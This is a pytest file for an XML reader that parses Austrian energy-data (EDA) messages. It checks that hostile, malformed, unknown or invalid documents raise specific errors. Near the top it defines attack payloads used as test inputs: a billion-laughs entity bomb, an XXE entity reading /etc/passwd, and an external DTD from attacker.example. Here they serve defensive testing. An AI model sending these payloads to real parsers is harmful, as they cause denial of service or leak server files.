"""Hostile, broken and unknown documents give the right `EdaDocumentError`, never a bare lxml
traceback; validation configuration errors say how to fix them."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from meshkit.adapters.eda.xml import (
    XSD_DIR_ENV,
    CMRevoke,
    ContentError,
    EdaDocumentError,
    HostileXmlError,
    MalformedXmlError,
    SchemaViolationError,
    UnknownMessageCodeError,
    UnknownNamespaceError,
    XsdNotFoundError,
    read_document,
)

Sample = Callable[[str], bytes]
REVOKE = "cmrevoke/_01p10/cmrevoke.xml"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<r>&xxe;</r>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>"""


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        # Other encodings, so the refusal does not rely on a byte search alone.
        b'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r><r/>'.decode().encode("utf-16"),
        '<?xml version="1.0" encoding="UTF-32"?><!DOCTYPE r [<!ENTITY a "x">]><r>&a;</r>'.encode(
            "utf-32"
        ),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "utf-16", "utf-32"],
)
def test_doctype_and_entities_are_refused(data: bytes) -> None:
    for validate in (True, False):
        with pytest.raises(HostileXmlError, match="DOCTYPE"):
            read_document(data, validate=validate)


def test_hostile_doctype_in_a_real_message_is_refused(sample: Sample, xsd_dir: Path) -> None:
    data = sample(REVOKE).replace(
        b"?>\n", b'?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>\n', 1
    )
    with pytest.raises(HostileXmlError):
        read_document(data, xsd_dir=xsd_dir)


def test_truncated_xml_is_malformed_with_a_line(sample: Sample, xsd_dir: Path) -> None:
    data = sample(REVOKE)
    with pytest.raises(MalformedXmlError, match=r"^line \d+: not well-formed XML") as caught:
        read_document(data[: len(data) // 2], xsd_dir=xsd_dir)
    assert caught.value.line is not None and caught.value.line >= 12


@pytest.mark.parametrize("data", [b"", b"   ", b"not xml at all", b"\xff\xfe\x00<"])
def test_garbage_is_malformed(data: bytes, xsd_dir: Path) -> None:
    with pytest.raises(MalformedXmlError):
        read_document(data, xsd_dir=xsd_dir)


def test_text_instead_of_bytes_is_refused_clearly() -> None:
    with pytest.raises(MalformedXmlError, match="must be given as bytes, got str"):
        read_document("<x/>", validate=False)  # type: ignore[arg-type]


def test_wrong_namespace_version_is_unknown(sample: Sample, xsd_dir: Path) -> None:
    # libxml2 reports the line on which the start tag ends (the root spans lines 2-3).
    data = sample(REVOKE).replace(b"cmrevoke/01p10", b"cmrevoke/01p99")
    with pytest.raises(UnknownNamespaceError, match=r"^line 3: root <CMRevoke> in namespace") as e:
        read_document(data, xsd_dir=xsd_dir)
    assert "CMRevoke 01p10" in str(e.value)  # lists what is supported


def test_foreign_namespace_and_wrong_root_are_unknown(xsd_dir: Path) -> None:
    with pytest.raises(UnknownNamespaceError, match="None"):
        read_document(b"<CMRevoke/>", xsd_dir=xsd_dir)
    ns = b"http://www.ebutilities.at/schemata/customerconsent/cmrevoke/01p10"
    with pytest.raises(UnknownNamespaceError, match="which holds <CMRevoke>"):
        read_document(b'<CMRequest xmlns="' + ns + b'"/>', xsd_dir=xsd_dir)


def test_unknown_message_code_passes_the_xsd_but_is_refused(sample: Sample, xsd_dir: Path) -> None:
    data = sample(REVOKE).replace(b"AUFHEBUNG_CCMC", b"ANFORDERUNG_XYZ")
    with pytest.raises(UnknownMessageCodeError, match=r"^line 15: message code 'ANFORDERUNG_XYZ'"):
        read_document(data, xsd_dir=xsd_dir)


def test_schema_violation_lists_every_issue(sample: Sample, xsd_dir: Path) -> None:
    data = sample(REVOKE).replace(b"2024-04-04", b"2024-13-04").replace(b'"PROD"', b'"TEST"')
    with pytest.raises(SchemaViolationError) as caught:
        read_document(data, xsd_dir=xsd_dir)
    assert caught.value.schema == "CMRevoke_01p10.xsd"
    assert [issue.line for issue in caught.value.issues] == [4, 22]
    assert "and 1 more" in str(caught.value)


def test_missing_element_without_validation_is_a_located_content_error(
    sample: Sample,
) -> None:
    data = sample(REVOKE).replace(b"<ns0:ConsentEnd>2024-04-04</ns0:ConsentEnd>", b"")
    with pytest.raises(ContentError, match=r"^line 17: <ProcessDirectory> lacks <ConsentEnd>"):
        read_document(data, validate=False)


def test_bad_value_without_validation_is_a_located_content_error(sample: Sample) -> None:
    data = sample(REVOKE).replace(b"2024-04-04", b"04.04.2024")
    with pytest.raises(ContentError, match=r"^line 22: <ConsentEnd> value '04.04.2024'"):
        read_document(data, validate=False)


def test_every_document_error_shares_one_base() -> None:
    for error in (
        MalformedXmlError,
        HostileXmlError,
        UnknownNamespaceError,
        UnknownMessageCodeError,
        SchemaViolationError,
        ContentError,
    ):
        assert issubclass(error, EdaDocumentError)


def test_validation_without_xsd_folder_says_how_to_configure(
    sample: Sample, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(XSD_DIR_ENV, raising=False)
    with pytest.raises(XsdNotFoundError, match=rf"pass xsd_dir=\.\.\. or set {XSD_DIR_ENV}"):
        read_document(sample(REVOKE))
    assert isinstance(read_document(sample(REVOKE), validate=False), CMRevoke)


def test_xsd_folder_from_environment(
    sample: Sample, xsd_dir: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv(XSD_DIR_ENV, str(xsd_dir))
    assert isinstance(read_document(sample(REVOKE)), CMRevoke)
    monkeypatch.setenv(XSD_DIR_ENV, str(tmp_path / "nowhere"))
    with pytest.raises(XsdNotFoundError, match=rf"from \${XSD_DIR_ENV}\) does not exist"):
        read_document(sample(REVOKE))
    with pytest.raises(
        XsdNotFoundError, match=r"CMRevoke_01p10\.xsd is missing from the XSD folder"
    ):
        read_document(sample(REVOKE), xsd_dir=tmp_path)


def test_master_data_is_not_supported_yet(sample: Sample, xsd_dir: Path) -> None:
    data = sample("masterdata/_01p33/masterdata.xml")
    with pytest.raises(UnknownNamespaceError, match="masterdata/01p33"):
        read_document(data, xsd_dir=xsd_dir)
